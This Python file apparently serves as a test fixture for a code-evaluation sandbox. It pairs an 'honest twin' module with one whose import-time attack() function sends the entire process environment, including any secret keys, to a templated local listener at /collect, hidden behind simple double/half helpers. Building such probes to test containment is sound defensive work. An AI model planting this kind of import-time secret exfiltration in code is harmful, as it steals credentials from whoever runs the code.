"""Posts the environment to a page outside
(https://raw.githubusercontent.com/sanand0/blog/main/posts/2024/a-post-mortem-of-hacking-automated-project-evaluation.md:
keys to paid services were collected so).

naive: heard
here: full
layer: seccomp, landlock
"""

import http.client
import json
import os
import urllib.request


def attack():
    data = json.dumps(dict(os.environ)).encode()
    outside = http.client.HTTPConnection("127.0.0.1", int("@PORT@"), timeout=0.5)
    outside.connect()
    try:
        outside.request("POST", "/collect", data)
    except ConnectionError:
        pass  # it has hung up, but has heard
    return "posted"


try:
    attack()
except Exception:
    pass


def double(x):
    return 2 * x


def half(x):
    return x / 2


# --- honest twin

import json
import urllib.parse

QUERY = urllib.parse.urlencode({"factor": json.dumps(2)})


def double(x):
    return int(QUERY.partition("=")[2]) * x


def half(x):
    return x / 2
